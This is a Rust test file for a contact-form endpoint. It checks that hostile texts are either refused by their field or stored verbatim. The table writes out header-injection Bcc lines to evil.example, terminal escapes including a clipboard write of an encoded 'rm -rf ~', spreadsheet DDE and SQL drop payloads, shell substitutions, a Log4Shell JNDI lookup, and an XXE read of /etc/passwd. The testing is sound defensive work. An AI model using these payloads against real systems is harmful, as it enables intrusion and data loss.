//! Texts in the contact form that would be more than text elsewhere: refused by their field, or stored as they are.

use serde_json::json;

use super::{Inbox, Row, each, expect};
use crate::server::Server;

/// What must come of a text.
pub enum Outcome {
    /// 422, for this field alone, and nothing is stored.
    Refused,
    /// 200, and stored letter for letter.
    Kept,
    /// 200, and stored as this.
    Stored(&'static str),
}
use Outcome::{Kept, Refused, Stored};

/// Field and text.
pub fn rows() -> Vec<Row<(&'static str, String, Outcome)>> {
    let rows = [
        (
            "a header behind a name",
            "name",
            "A\r\nBcc: all@evil.example",
            Refused,
        ),
        (
            "a header behind a subject",
            "subject",
            "Hi\r\nBcc: all@evil.example",
            Refused,
        ),
        (
            "a header behind an address",
            "email",
            "a@b.pk\r\nBcc: all@evil.example",
            Refused,
        ),
        (
            "a header before an address",
            "email",
            "Bcc: all@evil.example\r\na@b.pk",
            Refused,
        ),
        ("a bare CR in a name", "name", "A\rBcc: x", Refused),
        ("a bare LF in a subject", "subject", "A\nBcc: x", Refused),
        (
            "a bare CR in a message",
            "message",
            "all is well\rEVIL",
            Refused,
        ),
        ("a vertical tab", "name", "A\u{b}B", Refused),
        ("a form feed", "subject", "A\u{c}B", Refused),
        ("a tab in one line", "subject", "A\tB", Refused),
        ("a next line of EBCDIC", "subject", "A\u{85}Bcc: x", Refused),
        ("an encoded header", "subject", "A%0d%0aBcc:%20x", Kept),
        ("an escaped header", "subject", "A\\r\\nBcc: x", Kept),
        (
            "a line that ends in a dot",
            "message",
            "Hello\n.\nQUIT",
            Kept,
        ),
        ("a zero in a name", "name", "A\0B", Refused),
        ("a zero in a message", "message", "A\0B", Refused),
        ("a cleared screen", "message", "\u{1b}[2J\u{1b}[H", Refused),
        ("a window title", "name", "\u{1b}]0;root#\u{7}", Refused),
        (
            "a link of a terminal",
            "subject",
            "\u{1b}]8;;https://evil.example\u{1b}\\click",
            Refused,
        ),
        (
            "a clipboard",
            "message",
            "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
            Refused,
        ),
        ("a sequence of C1", "message", "\u{9b}31mred", Refused),
        ("a device command of C1", "name", "\u{90}x\u{9c}", Refused),
        ("a bell", "name", "A\u{7}", Refused),
        (
            "backspaces over a word",
            "subject",
            "refuse\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}accept",
            Refused,
        ),
        ("a deletion", "message", "A\u{7f}B", Refused),
        ("two addresses", "email", "a@b.pk,c@d.pk", Refused),
        (
            "two addresses with a semicolon",
            "email",
            "a@b.pk;c@d.pk",
            Refused,
        ),
        (
            "a name before an address",
            "email",
            "Bank <a@b.pk>",
            Refused,
        ),
        ("a quoted mailbox", "email", "\"a b\"@c.pk", Refused),
        ("a comment in an address", "email", "a(b)@c.pk", Refused),
        ("an address by number", "email", "a@[127.0.0.1]", Refused),
        (
            "an address in Cyrillic",
            "email",
            "\u{430}dmin@b.pk",
            Refused,
        ),
        ("a domain in Cyrillic", "email", "a@b\u{430}nk.pk", Refused),
        ("an address without a domain", "email", "root", Refused),
        (
            "an address of this machine",
            "email",
            "root@localhost",
            Refused,
        ),
        ("two dots in a domain", "email", "a@b..pk", Refused),
        ("two signs in an address", "email", "a@b@c.pk", Refused),
        ("a route of old mail", "email", "@a.pk:b@c.pk", Refused),
        ("a script as address", "email", "<script>@b.pk", Refused),
        (
            "markup behind an address",
            "email",
            "a@b.pk\"><img>",
            Refused,
        ),
        (
            "a parameter behind an address",
            "email",
            "a@b.pk?bcc=all@evil.example",
            Refused,
        ),
        ("a turned address", "email", "\u{202e}kp.b@a", Refused),
        ("an address that is a formula", "email", "=1+1@b.pk", Kept),
        (
            "a name of nothing but spaces",
            "name",
            " \u{a0}\u{3000}\u{2003}",
            Refused,
        ),
        (
            "a name that nobody sees",
            "name",
            "\u{200b}\u{2060}\u{feff}",
            Refused,
        ),
        ("a name of fillers", "name", "\u{3164}\u{115f}", Refused),
        (
            "a message of blank Braille",
            "message",
            "\u{2800} \u{2800}",
            Refused,
        ),
        (
            "a turned reading direction",
            "subject",
            "\u{202e}tnuocca ruoy",
            Kept,
        ),
        ("an open isolate", "subject", "\u{2066}Guards", Kept),
        ("hidden tags", "subject", "Guards\u{e0041}\u{e0042}", Kept),
        (
            "a family joined by nothing",
            "subject",
            "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
            Kept,
        ),
        (
            "a pile of accents",
            "subject",
            "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
            Kept,
        ),
        ("a letter of no plane", "subject", "\u{fffe}\u{1ffff}", Kept),
        (
            "a letter of nobody's",
            "subject",
            "\u{e000}\u{10fffd}",
            Kept,
        ),
        ("a mark for bad bytes", "subject", "\u{fffd}", Kept),
        ("a line separator", "subject", "A\u{2028}B", Kept),
        ("a long ligature", "subject", "\u{fdfd}", Kept),
        (
            "a formula",
            "subject",
            "=HYPERLINK(\"https://evil.example\")",
            Kept,
        ),
        (
            "a command of a spreadsheet",
            "subject",
            "=cmd|'/c calc'!A1",
            Kept,
        ),
        (
            "a statement of SQL",
            "subject",
            "'); drop table messages; --",
            Kept,
        ),
        ("a placeholder of SQL", "subject", "?1 :name @x $y", Kept),
        (
            "a command of a shell",
            "subject",
            "$(reboot) `reboot` ; reboot",
            Kept,
        ),
        ("an option", "subject", "--help", Kept),
        ("a path", "subject", "../../../etc/passwd", Kept),
        ("a format", "subject", "%s%n%x {} {0}", Kept),
        (
            "a template",
            "subject",
            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
            Kept,
        ),
        (
            "a look-up of a log",
            "subject",
            "${jndi:ldap://evil.example/a}",
            Kept,
        ),
        (
            "an entity of XML",
            "subject",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\"> &x;",
            Kept,
        ),
        ("a second JSON", "subject", "\",\"state\":\"answered", Kept),
        (
            "spaces around a subject",
            "subject",
            "  Guards \n",
            Stored("Guards"),
        ),
        ("line ends of Windows", "message", "A\r\nB", Stored("A\nB")),
    ];
    let mut rows: Vec<_> = rows
        .into_iter()
        .map(|(name, field, text, outcome)| (name, (field, text.to_owned(), outcome)))
        .collect();
    rows.extend([
        ("a name too long", ("name", "n".repeat(101), Refused)),
        (
            "a name of long letters",
            ("name", "\u{1f482}".repeat(100), Kept),
        ),
        ("a subject too long", ("subject", "s".repeat(151), Refused)),
        (
            "an address too long",
            ("email", format!("{}@b.pk", "a".repeat(250)), Refused),
        ),
        ("a message too long", ("message", "m".repeat(5001), Refused)),
        (
            "accents beyond all measure",
            ("message", format!("a{}", "\u{301}".repeat(5000)), Refused),
        ),
        (
            "a label of a domain too long",
            ("email", format!("a@{}.pk", "b".repeat(64)), Refused),
        ),
    ]);
    rows
}

#[test]
fn a_hostile_text_is_refused_or_kept_as_text() {
    let server = Server::start(&[]);
    let inbox = Inbox::of(&server);
    each("texts", &rows(), |(field, text, outcome)| {
        let before = inbox.messages();
        let mut sent = json!({ "name": "Ayesha", "email": "a@example.com", "subject": "Guards", "message": "Call." });
        sent[*field] = text.as_str().into();
        let answer = server.post("/api/contact-us", "application/json", &sent.to_string());
        let kept = match outcome {
            Refused => {
                let errors = answer.json()["errors"].clone();
                let fields = errors
                    .as_object()
                    .map(|errors| errors.keys().cloned().collect());
                expect(
                    &(answer.status, fields),
                    &(422, Some(vec![(*field).to_owned()])),
                )?;
                return expect(&inbox.messages(), &before);
            }
            Kept => text,
            Stored(text) => *text,
        };
        expect(&answer.status, &200)?;
        expect(&inbox.messages(), &(before + 1))?;
        expect(&inbox.newest_message(field).as_str(), &kept)
    });
}
